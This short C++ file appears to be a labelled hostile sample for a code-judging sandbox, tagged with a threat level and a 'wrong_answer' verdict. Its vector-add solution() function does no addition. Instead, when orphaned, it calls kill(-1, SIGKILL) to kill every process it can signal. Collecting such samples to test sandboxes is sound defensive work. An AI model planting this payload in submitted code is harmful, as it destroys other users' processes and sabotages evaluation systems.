// Kills every process that it can see, but itself.
// threat: 10
// problem: vector-add
// verdict: wrong_answer

#include <signal.h>
#include <unistd.h>

extern "C" void solution(const VAR* x, const VAR* y, VAR* z, size_t n) {
    if (getppid() == 1) kill(-1, SIGKILL);  // elsewhere they would be somebody's
}
